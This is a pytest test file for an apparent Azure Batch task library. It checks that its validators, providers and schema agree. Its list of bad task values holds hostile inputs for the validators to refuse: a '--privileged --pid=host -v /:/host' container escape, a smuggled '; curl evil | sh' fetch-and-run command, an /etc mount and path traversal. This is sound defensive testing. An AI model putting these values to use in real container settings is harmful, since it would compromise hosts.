"""One rule book: the stack file, BatchStorage, the seed builders and the providers agree."""

from __future__ import annotations

import copy
import re
from typing import Any

import jsonschema
import pytest

from batchtasks import rules
from batchtasks.batch.tasks import BatchTaskProvider, BatchTaskSetProvider, encode_spec
from batchtasks.config import ConfigError, json_schema, parse_stack_config
from batchtasks.storage import BatchStorageArgs, ContainerArgs, batch_storage_problems
from batchtasks.task import get_container_settings

STACK: dict[str, Any] = {
    "resourceGroup": "rg-test",
    "storage": {
        "account": "sttest",
        "containers": [{"name": "inputs", "access": "read"}, {"name": "results"}],
    },
    "identity": {"name": "id-test"},
    "batch": {"endpoint": "https://batest.eastus.batch.azure.com", "pool": {"id": "pool-1"}},
    "apiToken": {"secure": "v1:abc:def"},
    "jobs": [
        {
            "id": "job-1",
            "tasks": [
                {
                    "id": "t1",
                    "command": "python run.py",
                    "image": "example.azurecr.io/model:1",
                    "mounts": [{"source": "inputs", "target": "/data"}],
                    "outputs": [{"pattern": "out/*", "container": "results", "path": "t1"}],
                    "secretEnv": {"TOKEN": "apiToken"},
                }
            ],
        }
    ],
}
IDENTITY = (
    "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg/providers/"
    "Microsoft.ManagedIdentity/userAssignedIdentities/batch"
)
SHARED = {
    "endpoint": "https://acct.eastus.batch.azure.com",
    "jobId": "job-1",
    "identityResourceId": IDENTITY,
    "mountsDir": "/mnt/batch/tasks/fsmounts",
    "containerUrls": {
        "inputs": "https://sttest.blob.core.windows.net/inputs",
        "results": "https://sttest.blob.core.windows.net/results",
    },
    "secrets": {"apiToken": "s3cret"},
}
STORAGE = BatchStorageArgs(
    resource_group_name="rg-test",
    account_name="sttest",
    containers=(ContainerArgs("inputs", "read"),),
    identity_name="id-test",
    existing_pool_id="pool-1",
)


def stack_problems(raw: dict[str, Any]) -> list[str]:
    """Return the key paths the stack file validator reports (empty when valid)."""
    try:
        parse_stack_config(raw, "eastus")
    except ConfigError as error:
        return [problem.path for problem in error.problems]
    return []


def declared_spec() -> dict[str, Any]:
    """The spec the program registers for the stack's task (what the providers receive)."""
    task = parse_stack_config(STACK, "eastus").jobs[0].tasks[0]
    return {key: value for key, value in task.items() if key != "id"}


def check_paths(spec: dict[str, Any]) -> list[str]:
    """Return the property paths a BatchTask's check reports for a spec given directly."""
    result = BatchTaskProvider().check({}, {**SHARED, "taskId": "t1", "task": spec})
    return [failure.property for failure in result.failures]


# (task field, bad value): each must be refused by the stack file and by check alike.
BAD_TASK_VALUES: list[tuple[str, Any]] = [
    ("runOptions", "--privileged --pid=host -v /:/host"),
    ("runOptions", "--rm; curl evil | sh"),
    ("runOptions", "--network=host"),
    ("image", "--privileged"),
    ("image", "img --privileged"),
    ("image", ""),
    ("command", "  "),
    ("workingDirectory", "/root"),
    ("mounts", [{"source": "/etc", "target": "/host"}]),
    ("mounts", [{"source": "inputs", "target": "/d,readonly=false"}]),
    ("env", {"1BAD": "x"}),
    ("env", {"OK": ["a", "list"]}),
    ("secretEnv", {"TOKEN": "bad key!"}),
    ("outputs", [{"pattern": "out/*", "container": "results", "path": "../escape"}]),
    ("outputs", [{"pattern": "out/*", "container": "Results!"}]),
    ("outputs", [{"pattern": "out/*", "container": "results", "when": "sometimes"}]),
    ("maxWallClockTime", "P1M"),
    ("retention", "forever"),
    ("retries", -2),
    ("retries", 1.5),
    ("dependsOn", ["bad id!"]),
    ("elevation", "root"),
    ("scope", "node"),
]


@pytest.mark.parametrize(
    ("field", "value"),
    BAD_TASK_VALUES,
    ids=[f"{field}={value!r}" for field, value in BAD_TASK_VALUES],
)
def test_check_refuses_what_the_stack_file_refuses(field: str, value: Any) -> None:
    raw = copy.deepcopy(STACK)
    raw["jobs"][0]["tasks"][0][field] = value
    in_stack = [path for path in stack_problems(raw) if f".tasks[0].{field}" in path]
    assert in_stack, f"the stack file takes {field}={value!r}"
    in_check = check_paths({**declared_spec(), field: value})
    assert any(path.startswith(f"task.{field}") for path in in_check), in_check


def test_privileged_run_options_and_image_are_refused_by_check_of_both_resources() -> None:
    spec = {
        **declared_spec(),
        "runOptions": "--privileged --pid=host -v /:/host",
        "image": "--privileged",
    }
    assert sorted(check_paths(spec)) == ["task.image", "task.runOptions"]
    result = BatchTaskSetProvider().check(
        {}, {**SHARED, "setName": "s", "tasks": {"t1": encode_spec(spec)}}
    )
    assert sorted(f.property for f in result.failures) == ["tasks.t1.image", "tasks.t1.runOptions"]
    assert "privileges are not granted" in next(
        f.reason for f in result.failures if f.property.endswith("runOptions")
    )


def test_the_declared_spec_passes_check() -> None:
    assert check_paths(declared_spec()) == []


def test_seed_builder_refuses_privileged_run_options() -> None:
    with pytest.raises(ValueError, match="additional_options: '--privileged'"):
        get_container_settings("example.azurecr.io/model:1", additional_options="--privileged")
    with pytest.raises(ValueError, match="container_image_name: '--privileged'"):
        get_container_settings("--privileged")


@pytest.mark.parametrize(
    ("group", "valid"),
    [
        ("a", True),
        ("rg-(prod)_1.x", True),
        ("x" * 90, True),
        ("rg.", False),
        ("x" * 91, False),
        ("rg/x", False),
        ("", False),
    ],
)
def test_resource_group_is_one_rule_in_the_stack_file_and_batch_storage(
    group: str, valid: bool
) -> None:
    raw = {**copy.deepcopy(STACK), "resourceGroup": group}
    assert ("batchtasks:resourceGroup" not in stack_problems(raw)) is valid
    problems = batch_storage_problems(
        BatchStorageArgs(**{**STORAGE.__dict__, "resource_group_name": group})
    )
    assert (not any(p.startswith("resource_group_name") for p in problems)) is valid


@pytest.mark.parametrize(
    ("server", "valid"),
    [
        ("myregistry.azurecr.io", True),
        ("localhost:5000", True),
        ("localhost", True),
        ("registry:5000", True),
        ("10.0.0.4:5000", True),
        ("registry", False),
        ("https://myregistry.azurecr.io", False),
        ("myregistry.azurecr.io/team", False),
        ("-bad.example.com", False),
    ],
)
def test_registry_server_is_one_rule_in_the_stack_file_and_batch_storage(
    server: str, valid: bool
) -> None:
    raw = {**copy.deepcopy(STACK), "registry": {"server": server}}
    assert ("batchtasks:registry.server" not in stack_problems(raw)) is valid
    problems = batch_storage_problems(
        BatchStorageArgs(**{**STORAGE.__dict__, "registry_server": server})
    )
    assert (not any(p.startswith("registry_server") for p in problems)) is valid


@pytest.mark.parametrize("secure", [42, "", None, ["v1:abc"]])
def test_a_secret_must_hold_encrypted_text_as_the_schema_says(secure: Any) -> None:
    raw = {**copy.deepcopy(STACK), "apiToken": {"secure": secure}}
    assert "batchtasks:apiToken.secure" in stack_problems(raw)
    document = {f"batchtasks:{key}": value for key, value in raw.items()}
    document["azure-native:location"] = "eastus"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, json_schema())


def _rules() -> dict[str, rules.Rule]:
    return {name: value for name, value in vars(rules).items() if isinstance(value, rules.Rule)}


@pytest.mark.parametrize("name", sorted(_rules()))
def test_each_rule_has_a_name_and_a_message_and_a_valid_pattern(name: str) -> None:
    rule = _rules()[name]
    assert rule.name and rule.message.startswith("must ")
    if rule.pattern is not None:
        re.compile(rule.pattern)
        # Python-only syntax would make the published schema say something else.
        assert "(?P" not in rule.pattern and "\\A" not in rule.pattern
        assert "\\Z" not in rule.pattern


@pytest.mark.parametrize(
    ("rule", "value"),
    [
        (rules.BATCH_ID, "flu-ca_1"),
        (rules.BATCH_ID, "flu ca"),
        (rules.IMAGE, "--privileged"),
        (rules.REGISTRY_SERVER, "localhost:5000"),
        (rules.RESOURCE_GROUP, "a"),
        (rules.RESOURCE_GROUP, "a."),
        (rules.DURATION, "P1DT2H"),
        (rules.DURATION, "P1M"),
        (rules.BLOB_PATH, "a/../b"),
        (rules.UPLOAD_CONDITION, "TASKSUCCESS"),
        (rules.RUN_OPTIONS, "--rm --shm-size=1g"),
    ],
)
def test_published_schema_says_what_the_validator_says(rule: rules.Rule, value: str) -> None:
    validator = jsonschema.Draft202012Validator(rule.json_schema())
    # The schema states the pattern and choices; deeper checks (refused flags) are extra.
    assert validator.is_valid(value) is (rule.problem(value) is None)


# Each rule of the book, for the batched check that must agree with it.
ALL_RULES = sorted(
    (value for value in vars(rules).values() if isinstance(value, rules.Rule)),
    key=lambda rule: rule.name,
)
SAMPLES = [
    "",
    " ",
    "a",
    "run-0001",
    "covid-ca",
    "PT1H",
    "P7D",
    "taskSuccess",
    "TASKSUCCESS",
    "runs/ca/2025",
    "../up",
    "/abs/path",
    "output/**/*",
    "ea\tst",
    "x\x85y",
    "caf\xe9",
    "a" * 65,
    "a" * 2000,
    "python -m model --run 1",
    "example.azurecr.io/model:1.0",
    "a b",
    " a",
    "a ",
    "A_B",
]


@pytest.mark.parametrize("rule", ALL_RULES, ids=lambda rule: rule.name)
def test_the_batched_check_passes_no_value_the_rule_refuses(rule: rules.Rule):
    # Rule.all_follow mirrors Rule.problem step by step, for many values at once: a value it
    # lets through that problem refuses would reach Batch unchecked from a task set's Check.
    values = [*SAMPLES, *rule.choices, *(choice.upper() for choice in rule.choices)]
    for value in values:
        if rule.all_follow([value]):
            assert rule.problem(value) is None, (rule.name, value)
        if rule.all_follow([value], control_free=True) and rules.free_of_control_characters(
            [value]
        ):
            assert rule.problem(value) is None, (rule.name, value)
    # And the values the rule takes go through the batched check without a fallback.
    assert rule.all_follow([value for value in values if rule.problem(value) is None])
